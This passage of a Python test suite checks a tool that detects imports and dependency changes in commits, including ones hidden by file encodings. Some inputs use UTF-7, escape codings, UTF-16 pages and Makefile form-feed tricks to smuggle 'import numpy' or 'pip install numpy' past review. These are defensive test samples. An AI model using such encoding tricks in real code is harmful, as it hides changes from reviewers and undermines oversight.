        ("more.js", "export class A { copy(x) { const self = this; self[x] = 1; return new this.constructor(x); } }\n"),
        ("more.py", "def name(user):\n    return user.profile.name + user.trace\n"),
        ("more.py", "from .profile import Profile\n\nx = Profile()\n"),
    ],
)
async def test_what_the_base_loads_too_is_known(path: str, text: str) -> None:
    assert await read({path: text}, PAGE) == "proven"


TWO_PROJECTS = {
    "api/requirements.txt": "attrs\n",
    "api/prices.py": "import attrs\n",
    "worker/requirements.txt": "",
    "worker/src/jobs.py": "",
}


@pytest.mark.parametrize(
    ("head", "verdict"),
    [
        ({"api/prices.py": "import lefty\n", "api/lefty.py": ""}, "proven"),
        ({"api/prices.py": "import lefty\n", "worker/src/lefty.py": ""}, "unread api/prices.py, which imports lefty"),
        ({"worker/src/jobs.py": "import lefty\n", "worker/src/lefty.py": ""}, "proven"),
        ({"api/prices.py": "import jobs\n"}, "proven"),
    ],
)
async def test_a_new_module_of_another_project_is_no_own_module(head: dict[str, str], verdict: str) -> None:
    assert await read(head, TWO_PROJECTS) == verdict


def as_bytes(text: str, encoding: str) -> str:
    """A text that `Commits` gives as these bytes."""
    return text.encode(encoding).decode(errors="surrogateescape")


CDN = '<p>one</p><script src="https://cdn.example.com/x.js"></script>'
ENCODED: dict[str, dict[str, str]] = {
    "code in UTF-7": {"app.py": "# coding: utf-7\nimport os\n#+AAo-import numpy\n"},
    "code with escapes": {"app.py": "# coding: unicode_escape\nimport os\n#\\nimport numpy\n"},
    "a list in UTF-7": {"requirements.txt": "# coding: utf-7\nflask\nrequests==1.0\n#+AAo-numpy\n"},
    "a list of another name in UTF-7": {"more.md": "# coding: utf-7\nattrs\n#+AAo-numpy\n"},
    "a page in UTF-16": {"page.html": as_bytes(CDN, "utf-16")},
    "a page in UTF-16 that is not all ASCII": {"page.html": as_bytes(f"é{CDN}", "utf-16")},
    "a page with escapes": {"page.html": "<p>one</p><script src='/\x1b(B/cdn.example.com/x.js'></script>"},
    "a style sheet in UTF-16": {"page.css": as_bytes('@import "https://cdn.example.com/x.css";', "utf-16")},
    "a script for a shell that looks like UTF-16": {"run.sh": "\udcff\udcfe\npip install numpy\n"},
    "what is a line only for Python": {"Makefile": "check:\n\techo\f# ; pip install numpy\n"},
    "what is a blank only for Python": {"Makefile": "check:\n\t\f# ; pip install numpy\n"},
    "bytes of no encoding": {"tools.js": "const a = '\udce9';\n"},
}
ENCODED_BASE = {
    "app.py": "import os\n",
    "requirements.txt": "flask\nrequests==1.0\n-r more.md\n",
    "more.md": "attrs\n",
    "page.html": "<p>one</p>\n",
    "page.css": "p {}\n",
    "run.sh": "true\n",
    "Makefile": "check:\n\techo\n",
    "tools.js": "const a = 1;\n",
}


@pytest.mark.spec("DAY-9", "LAW-2")
@pytest.mark.parametrize("name", ENCODED)
async def test_nothing_hides_behind_an_encoding(name: str) -> None:
    (path,) = ENCODED[name]
    assert path in await read(ENCODED[name], ENCODED_BASE), await read(ENCODED[name], ENCODED_BASE)


@pytest.mark.spec("DAY-9")
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
async def test_a_mark_of_the_encoding_declares_nothing(encoding: str) -> None:
    texts = {
        "requirements.txt": "requests==1.0\r\nflask\r\n",
        "setup.cfg": "[metadata]\nname=a\nversion=1.0.0\n",
        "package.json": '{"version": "1.0.0", "dependencies": {"express": "^4"}}',
    }
    for path, text in texts.items():
        base, head = [{path: as_bytes(one, encoding)} for one in (text, text.replace("1.0", "1.1"))]
        assert await read(head, base) == "proven", path
        assert await read(head, {path: text}) == "proven", path


@pytest.mark.spec("DAY-9")
async def test_texts_in_old_encodings_may_change() -> None:
    cookie = "# -*- coding: latin-1 -*-\nimport os\nNAME = '\udce9'\n"
    base = {"app.py": cookie, "README.md": "caf\udce9\n", "data/a.csv": "caf\udce9\n"}
    base |= {"read.py": "open('data/a.csv', encoding='latin-1')\n", "logo.png": "\udc89PNG\0"}
    head = {"app.py": f"{cookie}import os\n", "README.md": "caf\udce9s\n", "data/a.csv": "caf\udce9\nth\udce9\n"}
    assert await read({**head, "logo.png": "\udc89PNG\0\0"}, base) == "proven"


@pytest.mark.spec("DAY-9")
async def test_a_manifest_of_which_nobody_knows_the_encoding_is_looked_at_and_not_refuted() -> None:
    base = {"package.json": '{"version": "1.0.0", "author": "Ren\udce9"}', "requirements.txt": "flask==1.0\n"}
    head = {path: text.replace("1.0", "1.1") for path, text in base.items()}
    head["requirements.txt"] += "# caf\udce9\n"
    assert await read(head, base) == "unread package.json, requirements.txt"
